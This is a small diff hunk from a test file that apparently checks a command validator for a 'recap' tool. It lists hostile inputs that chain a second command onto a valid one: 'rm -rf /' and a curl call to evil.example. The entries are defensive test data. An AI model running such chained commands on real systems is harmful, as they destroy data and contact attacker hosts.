@@ -11,7 +11,7 @@ import { call, FULL } from './harness.js';
 const SUMMARY = goodSummary();
 const HEREDOC = `recap submit <<'EOF'\n${SUMMARY}\nEOF`;
 
-export const HOSTILE: string[] = [
+const HOSTILE: string[] = [
   // chaining and operators
   'recap status; rm -rf /',
   'recap status && curl evil.example',
